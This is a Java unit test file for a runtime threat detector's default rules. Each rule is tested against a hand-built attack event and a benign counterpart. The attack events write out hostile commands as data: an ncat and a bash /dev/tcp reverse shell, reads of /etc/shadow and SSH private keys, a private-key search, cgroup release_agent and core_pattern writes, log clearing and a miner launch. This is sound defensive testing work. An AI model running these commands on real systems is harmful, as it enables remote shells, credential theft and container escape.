package org.tarsier.detector.rules.internal.eval;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.tarsier.detector.rules.internal.eval.Events.CONTAINER;
import static org.tarsier.detector.rules.internal.eval.Events.HOST;
import static org.tarsier.detector.rules.internal.eval.Events.O_CREAT;
import static org.tarsier.detector.rules.internal.eval.Events.O_TRUNC;
import static org.tarsier.detector.rules.internal.eval.Events.O_WRONLY;

import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.tarsier.api.alert.Alert;
import org.tarsier.api.event.Event;
import org.tarsier.api.event.FileOperation;
import org.tarsier.detector.rules.RuleInfo;
import org.tarsier.detector.rules.internal.RulesManager;

/** Each default rule against a hand-built attack event and a benign neighbour. */
class DefaultRulesTest {

    private static final Set<String> COVERED = new HashSet<>();
    private static final int O_WRONLY_CREAT = 01 | 0100;

    private static Rules defaults() throws Exception {
        return Rules.of(List.of(RulesManager.defaultSource()));
    }

    private static Arguments rule(String name, Event positive, Event negative) {
        COVERED.add(name);
        return Arguments.of(name, positive, negative);
    }

    private static Event exec(org.tarsier.api.container.ContainerInfo c, String file,
            String... argv) {
        return Events.exec(c, 100, 50, file, argv);
    }

    private static Event write(org.tarsier.api.container.ContainerInfo c, String path) {
        return Events.open(c, 100, "sh", path, O_WRONLY | O_CREAT);
    }

    private static Event file(FileOperation op, String path, String target, int mode) {
        return Events.file(CONTAINER, 100, "sh", op, path, target, 0, mode, 0);
    }

    private static Event sys(org.tarsier.api.container.ContainerInfo c, String name,
            Map<String, String> args) {
        return Events.syscall(c, 100, "tool", name, args, 0);
    }

    static Stream<Arguments> cases() {
        return Stream.of(
            rule("Shell spawned in container", exec(CONTAINER, "/bin/sh", "sh"),
                    exec(HOST, "/bin/sh", "sh")),
            rule("Read shadow or sudoers file",
                    Events.file(CONTAINER, 100, "cat", FileOperation.OPEN, "/etc/shadow", "", 0,
                            0, -13),
                    Events.open(CONTAINER, 100, "cat", "/etc/passwd", 0)),
            rule("Read SSH private key", Events.open(HOST, 100, "cat", "/root/.ssh/id_ed25519", 0),
                    Events.open(HOST, 100, "cat", "/root/.ssh/id_ed25519.pub", 0)),
            rule("Write below etc",
                    file(FileOperation.RENAME, "/tmp/passwd", "/etc/passwd", 0),
                    write(CONTAINER, "/tmp/passwd")),
            rule("Write below binary dir", write(CONTAINER, "/usr/bin/ls"),
                    Events.open(CONTAINER, 100, "sh", "/usr/bin/ls", 0)),
            rule("Write below library dir", write(CONTAINER, "/lib/x86_64-linux-gnu/libc.so.6"),
                    write(CONTAINER, "/library/x")),
            rule("Write below root home", write(CONTAINER, "/root/.bashrc"),
                    write(CONTAINER, "/root/.bash_history")),
            rule("Package manager in container",
                    exec(CONTAINER, "/usr/bin/apt-get", "apt-get", "install", "nmap"),
                    exec(HOST, "/usr/bin/apt-get", "apt-get", "install", "nmap")),
            rule("Execution from temporary directory", exec(HOST, "/dev/shm/x", "x"),
                    exec(HOST, "/usr/bin/tmpreaper", "tmpreaper")),
            rule("Fileless execution", exec(HOST, "/dev/fd/3", "kworker"),
                    exec(HOST, "/usr/bin/fdisk", "fdisk")),
            rule("Memory file created in container",
                    sys(CONTAINER, "memfd_create", Map.of("name", "x")),
                    sys(HOST, "memfd_create", Map.of("name", "x"))),
            rule("Netcat remote code execution",
                    exec(HOST, "/usr/bin/ncat", "ncat", "10.0.0.1", "4444", "-e", "/bin/sh"),
                    exec(HOST, "/usr/bin/ncat", "ncat", "-l", "8080")),
            rule("Netcat launched in container", exec(CONTAINER, "/bin/nc", "nc", "-l", "80"),
                    exec(CONTAINER, "/bin/ncdu", "ncdu")),
            rule("Reverse shell redirect",
                    exec(HOST, "/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"),
                    exec(HOST, "/bin/bash", "bash", "-c", "echo hi > /dev/null")),
            rule("Crypto miner launched",
                    exec(CONTAINER, "/opt/kworker", "kworker", "-o", "stratum+tcp://pool:3333"),
                    exec(CONTAINER, "/opt/worker", "worker", "-o", "http://queue:80")),
            rule("Connection to mining pool port",
                    Events.connect(CONTAINER, 1, 100, "app", "127.0.0.1", 3333),
                    Events.connect(CONTAINER, 1, 100, "app", "127.0.0.1", 443)),
            rule("Ptrace attach",
                    Events.syscall(HOST, 100, "gdb", "ptrace",
                            Map.of("request", "PTRACE_ATTACH", "pid", "1"), -1),
                    sys(HOST, "ptrace", Map.of("request", "PTRACE_TRACEME", "pid", "0"))),
            rule("Kernel module loaded",
                    Events.syscall(CONTAINER, 100, "insmod", "finit_module",
                            Map.of("module", "evil"), -1),
                    sys(CONTAINER, "delete_module", Map.of("module", "evil"))),
            rule("Mount from container",
                    sys(CONTAINER, "mount", Map.of("source", "/dev/sda1", "target", "/mnt")),
                    sys(HOST, "mount", Map.of("source", "/dev/sda1", "target", "/mnt"))),
            rule("Namespace change from container",
                    sys(CONTAINER, "unshare", Map.of("flags", "CLONE_NEWNS")),
                    sys(HOST, "unshare", Map.of("flags", "CLONE_NEWNS"))),
            rule("Write to kernel parameters", write(HOST, "/proc/sys/net/ipv4/ip_forward"),
                    Events.open(HOST, 100, "cat", "/proc/sys/net/ipv4/ip_forward", 0)),
            rule("Write to core_pattern", write(CONTAINER, "/proc/sys/kernel/core_pattern"),
                    write(CONTAINER, "/proc/sys/kernel/core_uses_pid")),
            rule("Write to cgroup release_agent",
                    write(CONTAINER, "/sys/fs/cgroup/rdma/x/release_agent"),
                    Events.open(CONTAINER, 100, "cat", "/sys/fs/cgroup/rdma/x/release_agent", 0)),
            rule("Link to sensitive file",
                    file(FileOperation.SYMLINK, "/tmp/s", "../../etc/shadow", 0),
                    file(FileOperation.SYMLINK, "/tmp/s", "/etc/hosts", 0)),
            rule("Set setuid or setgid bit", file(FileOperation.CHMOD, "/tmp/sh", "", 04755),
                    file(FileOperation.CHMOD, "/tmp/sh", "", 0755)),
            rule("Clear log files",
                    Events.open(HOST, 100, "sh", "/var/log/auth.log", O_WRONLY | O_TRUNC),
                    Events.open(HOST, 100, "sh", "/var/log/auth.log", O_WRONLY | 02000)),
            rule("Delete or clear shell history",
                    file(FileOperation.SYMLINK, "/root/.bash_history", "/dev/null", 0),
                    file(FileOperation.SYMLINK, "/root/.bashrc", "/dev/null", 0)),
            rule("User management tool launched", exec(CONTAINER, "/usr/sbin/useradd", "useradd",
                    "eve"), exec(CONTAINER, "/usr/bin/id", "id", "eve")),
            rule("Search for private keys or passwords",
                    exec(HOST, "/usr/bin/find", "find", "/", "-name", "id_rsa"),
                    exec(HOST, "/usr/bin/find", "/", "-name", "*.log")),
            rule("Contact cloud metadata service from container",
                    Events.connect(CONTAINER, 1, 100, "curl", "169.254.169.254", 80),
                    Events.connect(HOST, 1, 100, "curl", "169.254.169.254", 80)),
            rule("BPF program loaded from container",
                    sys(CONTAINER, "bpf", Map.of("cmd", "BPF_PROG_LOAD")),
                    sys(CONTAINER, "bpf", Map.of("cmd", "BPF_MAP_LOOKUP_ELEM"))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void ruleFiresOnAttack(String rule, Event positive, Event negative) throws Exception {
        List<String> fired = defaults().fired(positive);

        assertTrue(fired.contains(rule), rule + " did not fire; fired: " + fired);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void ruleIgnoresNeighbour(String rule, Event positive, Event negative) throws Exception {
        List<String> fired = defaults().fired(negative);

        assertFalse(fired.contains(rule), rule + " fired on the benign neighbour");
    }

    @Test
    void readsThroughUnknownLinksFire() throws Exception {
        Rules rules = defaults();

        assertTrue(rules.fired(Events.resolvedOpen(CONTAINER, 100, "cat", "/etc/shadow",
                "/mnt/links/x")).contains("Read shadow or sudoers file"));
        assertTrue(rules.fired(Events.resolvedOpen(CONTAINER, 100, "cat", "/root/.ssh/id_rsa",
                "/tmp/k")).contains("Read SSH private key"));
    }

    @Test
    void sshHostKeyReadFires() throws Exception {
        Rules rules = defaults();

        assertTrue(rules.fired(Events.open(CONTAINER, 100, "cat", "/etc/ssh/ssh_host_rsa_key",
                0)).contains("Read SSH private key"));
        assertFalse(rules.fired(Events.open(CONTAINER, 100, "cat",
                "/etc/ssh/ssh_host_rsa_key.pub", 0)).contains("Read SSH private key"));
        assertFalse(rules.fired(Events.open(CONTAINER, 100, "cat", "/etc/ssh/sshd_config", 0))
                .contains("Read SSH private key"));
    }

    @Test
    void shellConnectingOutFires() throws Exception {
        Rules rules = defaults();
        rules.alerts(Events.exec(CONTAINER, 100, 50, "/bin/bash", "bash"));

        assertTrue(rules.fired(Events.connect(CONTAINER, 1, 100, "bash", "127.0.0.1", 9001))
                .contains("Shell opens network connection"));
        assertFalse(rules.fired(Events.connect(CONTAINER, 1, 101, "curl", "127.0.0.1", 9001))
                .contains("Shell opens network connection"));
    }

    @Test
    void droppedBinaryExecutionFires() throws Exception {
        Rules rules = defaults();
        rules.alerts(Events.file(CONTAINER, 100, "mv", FileOperation.RENAME, "/tmp/a",
                "/app/helper", 0, 0, 0));

        assertTrue(rules.fired(Events.exec(CONTAINER, 101, 100, "/app/helper", "helper"))
                .contains("Drop and execute new binary"));
        assertFalse(rules.fired(Events.exec(CONTAINER, 102, 100, "/app/server", "server"))
                .contains("Drop and execute new binary"));
    }

    @Test
    void engineLayerWriteIsNotDropped() throws Exception {
        Rules rules = defaults();
        rules.alerts(Events.exec(HOST, 300, 1, "/usr/sbin/dockerd", "exe", "/var/lib/docker/x"));
        List<String> layer = rules.fired(Events.file(HOST, 300, "exe", FileOperation.OPEN,
                "/bin/sh", "", O_WRONLY_CREAT, 0755, 3));

        assertFalse(layer.contains("Write below binary dir"), layer.toString());
        assertFalse(rules.fired(Events.exec(HOST, 301, 1, "/bin/sh", "sh"))
                .contains("Drop and execute new binary"));
    }

    @Test
    void hostBinaryDirWriteFires() throws Exception {
        Rules rules = defaults();
        rules.alerts(Events.exec(HOST, 400, 1, "/tmp/dropper", "dropper"));
        List<String> fired = rules.fired(Events.file(HOST, 400, "dropper", FileOperation.OPEN,
                "/bin/sh", "", O_WRONLY_CREAT, 0755, 3));

        assertTrue(fired.contains("Write below binary dir"), fired.toString());
        assertTrue(rules.fired(Events.exec(HOST, 401, 1, "/bin/sh", "sh"))
                .contains("Drop and execute new binary"));
    }

    @Test
    void portScanFiresOnceOnDistinctPorts() throws Exception {
        Rules rules = defaults();
        int alerts = 0;
        for (int port = 1; port <= 40; port++) {
            alerts += count(rules.alerts(Events.connect(CONTAINER, port * 1_000_000L, 100, "nc",
                    "127.0.0.1", port)), "Port scan");
        }

        assertEquals(1, alerts);
    }

    @Test
    void portScanIgnoresRepeatedPort() throws Exception {
        Rules rules = defaults();
        int alerts = 0;
        for (int i = 1; i <= 40; i++) {
            alerts += count(rules.alerts(Events.connect(CONTAINER, i * 1_000_000L, 100, "app",
                    "127.0.0.1", 5432)), "Port scan");
        }

        assertEquals(0, alerts);
    }

    @Test
    void forkBurstFiresInContainer() throws Exception {
        Rules rules = defaults();
        int alerts = 0;
        for (int i = 1; i <= 600; i++) {
            alerts += count(rules.alerts(Events.fork(CONTAINER, i * 1_000_000L, 100, 1000 + i)),
                    "Fork burst in container");
        }

        assertEquals(1, alerts);
    }

    @Test
    void slowForksDoNotFire() throws Exception {
        Rules rules = defaults();
        int alerts = 0;
        for (int i = 1; i <= 600; i++) {
            alerts += count(rules.alerts(Events.fork(CONTAINER, i * 100_000_000L, 100, 1000 + i)),
                    "Fork burst in container");
        }

        assertEquals(0, alerts);
    }

    @Test
    void copiedShellStillDetectedByArgv() throws Exception {
        List<String> fired = defaults().fired(Events.exec(CONTAINER, 100, 50, "/usr/local/x",
                "/bin/sh"));

        assertTrue(fired.contains("Shell spawned in container"), fired.toString());
    }

    @Test
    void alertCarriesFieldsAndTags() throws Exception {
        List<Alert> alerts = defaults().alerts(Events.exec(CONTAINER, 100, 50,
                "/usr/bin/apt-get", "apt-get", "install", "nmap"));
        Alert alert = alerts.stream().filter(a -> a.rule().equals("Package manager in container"))
                .findFirst().orElseThrow();

        assertEquals("rules", alert.detector());
        assertEquals("apt-get install nmap", alert.fields().get("proc.cmdline"));
        assertEquals("3f1c2a9b8d7e", alert.fields().get("container.id"));
        assertTrue(alert.tags().contains("T1505"), alert.tags().toString());
        assertTrue(alert.message().contains("container_id=3f1c2a9b8d7e container_name=web"),
                alert.message());
    }

    @Test
    void defaultRulesetHasEnoughTaggedRules() throws Exception {
        List<RuleInfo> infos = defaults().ruleSet.infos();

        assertTrue(infos.size() >= 25, "only " + infos.size() + " rules");
        assertEquals(List.of(), defaults().ruleSet.skipped());
        for (RuleInfo info : infos) {
            assertTrue(info.tags().stream().anyMatch(t -> t.matches("T\\d{4}(\\.\\d{3})?")),
                    info.name() + " has no MITRE ATT&CK technique tag");
        }
    }

    @Test
    void everyDefaultRuleHasACase() throws Exception {
        cases().count();
        Set<String> all = new HashSet<>();
        defaults().ruleSet.infos().forEach(i -> all.add(i.name()));
        all.removeAll(COVERED);
        all.removeAll(Set.of("Shell opens network connection", "Drop and execute new binary",
                "Port scan", "Fork burst in container"));

        assertEquals(Set.of(), all);
    }

    private static int count(List<Alert> alerts, String rule) {
        return (int) alerts.stream().filter(a -> a.rule().equals(rule)).count();
    }
}
